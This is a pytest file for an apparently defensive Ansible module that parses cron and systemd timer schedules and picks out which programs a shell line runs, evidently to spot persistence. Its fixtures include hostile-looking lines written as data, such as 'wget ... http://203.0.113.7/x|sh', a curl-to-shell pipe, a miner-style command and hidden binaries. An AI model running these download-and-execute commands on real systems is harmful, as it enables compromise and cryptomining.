"""What a shell line runs and how often a schedule runs it, as data tables."""

from __future__ import annotations

import pytest
from ansible_collections.lifeline.rescue.plugins.module_utils.cron import crontab
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import shell_commands


@pytest.mark.parametrize(
    ("line", "minutes"),
    [
        ("*/3 * * * * root x", 3),
        ("0-59/5 * * * * root x", 5),
        ("0,30 * * * * root x", 30),
        ("0,1 * * * * root x", 59),
        ("17 * * * * root x", 60),
        ("0 3 * * * root x", 1440),
        ("0 */6 * * * root x", 360),
        ("* 9-17 * * 1-5 root x", 1),
        ("@hourly root x", 60),
        ("@daily root x", 1440),
        ("@reboot root x", None),
    ],
)
def test_cron_interval(line, minutes):
    assert shell_commands.cron_interval(crontab.parse_line(line, True)) == minutes


@pytest.mark.parametrize(
    ("value", "minutes"),
    [
        ("minutely", 1),
        ("hourly", 60),
        ("*:0/3", 3),
        ("*-*-* *:00/10:00", 10),
        ("*:*", 1),
        ("Mon *-*-* 04:00", 1440),
    ],
)
def test_calendar_minutes(value, minutes):
    assert shell_commands.calendar_minutes(value) == minutes


@pytest.mark.parametrize(
    ("value", "minutes"), [("2min", 2), ("90", 2), ("1h 30m", 90), ("500ms", 1), ("soon", None)]
)
def test_timespan_minutes(value, minutes):
    assert shell_commands.timespan_minutes(value) == minutes


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("/usr/bin/.sysupdate >/dev/null 2>&1", ["/usr/bin/.sysupdate"]),
        ("cd / && run-parts --report /etc/cron.hourly", ["cd", "run-parts"]),
        ("nohup /tmp/x -o pool:3333 &", ["/tmp/x"]),
        ("env A=1 sudo -u bob nice -n 5 /opt/x arg", ["/opt/x"]),
        ("/bin/sh -c '/var/tmp/a; /var/tmp/b'", ["/bin/sh", "/var/tmp/a", "/var/tmp/b"]),
        ("bash /root/.x.sh arg", ["bash", "/root/.x.sh"]),
        ("python3 -c 'print(1)' /tmp/not-a-script", ["python3"]),
        ("perl /dev/shm/p.pl", ["perl", "/dev/shm/p.pl"]),
        (". /etc/profile.d/a.sh", ["/etc/profile.d/a.sh"]),
        ("X=$(curl -s http://h/x) /usr/bin/true", ["curl", "/usr/bin/true"]),
        ("for f in /tmp/*; do echo $f; done", ["echo"]),
        ("timeout 10 /tmp/t", ["/tmp/t"]),
        ("test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; }", ["test", "cd", "run-parts"]),
        ("echo 'unterminated", ["echo"]),
    ],
)
def test_what_a_shell_line_runs(line, runs):
    commands, _ = shell_commands.simple_commands(line)
    assert [w for words in commands for w in shell_commands.executed_words(words)] == runs


@pytest.mark.parametrize(
    ("line", "runs", "named"),
    [
        (
            "/usr/bin/.sysupdate >/dev/null 2>&1",
            ["/usr/bin/.sysupdate"],
            ["/usr/bin/.sysupdate", "/dev/null", "/dev/null"],
        ),
        ("cd / && run-parts --report /etc/cron.hourly", ["run-parts"], ["/etc/cron.hourly"]),
        ("nohup //tmp/./x/../y -o pool:3333 &", ["/tmp/y"], []),
        ("echo $(curl -s http://h/x) | /bin/sh", ["curl", "/bin/sh"], ["/bin/sh"]),
        ("wget -qO- http://203.0.113.7/x|sh>/tmp/.log", ["wget", "sh"], ["/tmp/.log", "/tmp/.log"]),
        ("$HOME/.x/run; ~/bin/go", [], []),
    ],
)
def test_programs_and_paths(line, runs, named):
    assert shell_commands.programs_and_paths(line) == (runs, named)


@pytest.mark.parametrize(
    ("name", "runner"),
    [
        ("sh", True),
        ("bash", True),
        ("python3.11", True),
        ("nohup", True),
        ("flock", True),
        ("curl", False),
        (".sysupdate", False),
        ("kdevtmpfsi", False),
    ],
)
def test_is_runner(name, runner):
    assert shell_commands.is_runner(name) is runner
